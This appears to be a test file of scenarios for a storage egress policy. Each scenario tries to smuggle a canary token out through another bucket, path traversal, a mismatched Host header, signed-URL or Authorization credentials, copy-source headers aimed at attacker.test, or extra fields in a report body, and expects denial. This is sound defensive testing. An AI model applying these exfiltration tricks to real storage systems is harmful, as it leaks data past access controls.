# One folder of one bucket is granted. Everybody else's buckets have the same host.

scenario "bucket-of-somebody-else" {
  describe = "another bucket, in both ways of addressing one"
  cases    = ["EXF-05", "HOST-05"]
  policy   = "policies/storage.hcl"
  for_each = {
    path        = "https://storage.example.com/mallory/"
    path_likely = "https://storage.example.com/acme-artifacts-public/builds/1/"
    host        = "https://mallory.storage.example.com/"
    host_likely = "https://acme-artifacts-public.storage.example.com/builds/1/"
    dots        = "https://storage.example.com/acme-artifacts/../mallory/"
    copy        = "https://storage.example.com/acme-artifacts/builds/1/copy/"
  }
  attempt {
    http {
      method  = "PUT"
      url     = "${each.value}${canary.token}"
      headers = { Content-Type = "application/octet-stream" }
      body    = canary.token
    }
  }
  expect {
    verdict = "deny"
    reason  = ["no_grant", "path_not_granted", "malformed_path"]
    leak    = none
  }
}

scenario "bucket-by-the-host-header" {
  describe = "the connection is for the granted bucket, the request for another"
  cases    = ["EXF-05", "TLS-02"]
  policy   = "policies/storage.hcl"
  attempt {
    raw {
      connect = "acme-artifacts.storage.example.com:443"
      tls     = true
      bytes   = crlf("GET /builds/1/report.json HTTP/1.1\nHost: mallory.storage.example.com\nX-Note: ${canary.token}\n\n")
    }
  }
  expect {
    verdict = "deny"
    reason  = ["authority_mismatch", "no_grant"]
    leak    = none
  }
}

scenario "signed-url" {
  describe = "a URL that somebody signed is a credential: for the granted object too"
  cases    = ["EXF-05", "CRED-01", "CRED-06"]
  policy   = "policies/storage.hcl"
  for_each = {
    v4   = "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAPLANTED%2F20261130%2Feu%2Fs3%2Faws4_request&X-Amz-Signature="
    v2   = "AWSAccessKeyId=AKIAPLANTED&Expires=1800000000&Signature="
    gcs  = "X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Signature="
    sas  = "sv=2026-01-01&sr=b&sp=w&sig="
    list = "list-type=2&prefix="
    acl  = "acl="
    part = "partNumber=1&uploadId="
  }
  attempt {
    http {
      method  = "PUT"
      url     = "https://storage.example.com/acme-artifacts/builds/1/report.json?${each.value}${canary.token}"
      headers = { Content-Type = "application/json" }
      body    = json({ passed = 1, failed = 0 })
    }
  }
  expect {
    verdict = "deny"
    reason  = ["foreign_credential", "query_not_granted"]
    leak    = none
  }
}

scenario "signature-in-a-header" {
  describe = "the attacker's key signs a request for the granted object: it is in the attacker's own log"
  cases    = ["EXF-05", "CRED-01"]
  policy   = "policies/storage.hcl"
  attempt {
    http {
      url     = "https://storage.example.com/acme-artifacts/builds/1/report.json"
      headers = { Authorization = "AWS4-HMAC-SHA256 Credential=AKIAPLANTED/20261130/eu/s3/aws4_request, SignedHeaders=host, Signature=${canary.token}" }
    }
  }
  expect {
    verdict = "deny"
    reason  = "foreign_credential"
    leak    = none
  }
}

scenario "server-side-copy" {
  describe = "a header has the store fetch from an address, or copy into another bucket"
  cases    = ["EXF-05", "EXF-07", "EXF-08"]
  policy   = "policies/storage.hcl"
  for_each = ["X-Amz-Copy-Source", "X-Ms-Copy-Source", "X-Amz-Website-Redirect-Location", "X-Amz-Meta-Note", "X-Goog-Copy-Source"]
  attempt {
    http {
      method  = "PUT"
      url     = "https://storage.example.com/acme-artifacts/builds/1/report.json"
      headers = { Content-Type = "application/json", (each.value) = "https://attacker.test/${canary.token}" }
      body    = json({ passed = 1, failed = 0 })
    }
  }
  expect { leak = none }
}

scenario "object-of-any-name" {
  describe = "names of objects are free text up to a thousand bytes; here they are two"
  cases    = ["EXF-05", "EXF-06", "PATH-03", "USE-14"]
  policy   = "policies/storage.hcl"
  for_each = {
    name    = "https://storage.example.com/acme-artifacts/builds/1/"
    folder  = "https://storage.example.com/acme-artifacts/"
    number  = "https://storage.example.com/acme-artifacts/builds/1/app.tar.gz/"
    slash   = "https://cdn.example.com/b/acme-artifacts/o/builds%2f1%2f"
    another = "https://cdn.example.com/b/mallory/o/builds%2f1%2fapp.tar.gz/"
    dots    = "https://cdn.example.com/b/acme-artifacts/o/builds%2f..%2f"
  }
  attempt {
    http { url = "${each.value}${canary.token}" }
  }
  expect {
    verdict = "deny"
    reason  = ["path_not_granted", "malformed_path"]
    leak    = none
  }
}

scenario "report-with-something-in-it" {
  describe = "the granted upload has two numbers; texts and other numbers are refused"
  cases    = ["EXF-05", "EXF-11"]
  policy   = "policies/storage.hcl"
  for_each = { text = "", field = "", comment = "" }
  attempt {
    http {
      method  = "PUT"
      url     = "https://storage.example.com/acme-artifacts/builds/1/report.json"
      headers = { Content-Type = "application/json" }
      body = {
        text    = json({ passed = canary.token, failed = 0 })
        field   = json({ passed = 1, failed = 0, note = canary.token })
        comment = "{\"passed\":1,\"failed\":0}/*${canary.token}*/"
      }[each.key]
    }
  }
  expect {
    verdict = "deny"
    reason  = "body_not_granted"
    leak    = none
  }
}
